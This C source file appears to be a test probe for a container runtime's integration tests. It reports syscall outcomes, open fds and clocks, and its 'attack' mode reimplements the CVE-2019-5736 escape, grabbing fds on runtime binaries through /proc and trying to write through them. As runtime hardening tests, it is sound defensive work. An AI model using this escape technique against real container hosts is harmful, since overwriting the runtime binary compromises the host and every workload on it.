/* Built statically at test time and copied into test containers: prints what the process
 * sees, one "key value" line per question, for tests/integration/container*.sh. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "all";

	if (!strcmp(what, "syscalls") || !strcmp(what, "all")) {
		errno = 0;
		long r = syscall(435 /* clone3 */, NULL, 0);
		printf("clone3 %ld %s\n", r, r < 0 ? strerrorname_np(errno) : "ok");
		r = syscall(1000 /* no such syscall */);
		printf("sys1000 %ld %s\n", r, r < 0 ? strerrorname_np(errno) : "ok");
		r = mount("none", "/tmp", "tmpfs", 0, NULL);
		printf("mount %ld %s\n", r, r < 0 ? strerrorname_np(errno) : "ok");
		r = syscall(SYS_unshare, 0x10000000 /* CLONE_NEWUSER */);
		printf("unshare %ld %s\n", r, r < 0 ? strerrorname_np(errno) : "ok");
		r = syscall(SYS_getpid);
		printf("getpid %ld\n", r);
	}
	if (!strcmp(what, "fds") || !strcmp(what, "all")) {
		/* Every fd open in this process, except the one reading the directory. */
		DIR           *d = opendir("/proc/self/fd");
		struct dirent *de;
		printf("fds");
		while (d && (de = readdir(d))) {
			if (de->d_name[0] == '.' || atoi(de->d_name) == dirfd(d))
				continue;
			printf(" %s", de->d_name);
		}
		printf("\n");
		if (d)
			closedir(d);
	}
	if (!strcmp(what, "exe")) {
		/* Try to overwrite the runtime through /proc/self/exe of our parent... and our
		 * own: a container must never reach the runtime binary. */
		int fd = open("/proc/self/exe", O_WRONLY);
		printf("selfexe %s\n", fd < 0 ? strerrorname_np(errno) : "writable");
	}
	if (!strcmp(what, "attack")) {
		/* CVE-2019-5736: grab an O_PATH fd on the exe of every runtime process that
		 * shows up in the container, then, once it is gone, try to write through it. */
		int    caught[64], n = 0, wrote = 0, blocked = 0;
		char   self[256] = "", path[300], link[256];
		time_t end = time(NULL) + (argc > 2 ? atoi(argv[2]) : 5);
		ssize_t l = readlink("/proc/self/exe", self, sizeof(self) - 1);
		self[l > 0 ? l : 0] = '\0';
		while (time(NULL) < end && n < 64) {
			DIR           *d = opendir("/proc");
			struct dirent *de;
			while (d && (de = readdir(d)) && n < 64) {
				if (de->d_name[0] < '0' || de->d_name[0] > '9')
					continue;
				snprintf(path, sizeof(path), "/proc/%s/exe", de->d_name);
				l = readlink(path, link, sizeof(link) - 1);
				if (l <= 0)
					continue;
				link[l] = '\0';
				if (!strcmp(link, self) || strstr(link, "busybox"))
					continue;
				int fd = open(path, O_PATH | O_CLOEXEC);
				if (fd >= 0)
					caught[n++] = fd;
			}
			if (d)
				closedir(d);
		}
		for (int i = 0; i < n; i++) {
			snprintf(path, sizeof(path), "/proc/self/fd/%d", caught[i]);
			for (int t = 0; t < 100; t++) {
				int w = open(path, O_WRONLY | O_APPEND);
				if (w < 0 && errno == ETXTBSY) {
					usleep(20000);
					continue;
				}
				if (w >= 0 && write(w, "X", 1) == 1)
					wrote++;
				else
					blocked++;
				if (w >= 0)
					close(w);
				break;
			}
		}
		printf("caught %d wrote %d blocked %d\n", n, wrote, blocked);
	}
	if (!strcmp(what, "cwd")) {
		char buf[4096];
		printf("cwd %s\n", getcwd(buf, sizeof(buf)) ? buf : strerrorname_np(errno));
	}
	fflush(stdout);
	if (!strcmp(what, "clocks") || !strcmp(what, "all")) {
		struct timespec m, b;
		clock_gettime(CLOCK_MONOTONIC, &m);
		clock_gettime(CLOCK_BOOTTIME, &b);
		printf("monotonic %lld\nboottime %lld\n", (long long)m.tv_sec, (long long)b.tv_sec);
	}
	return 0;
}
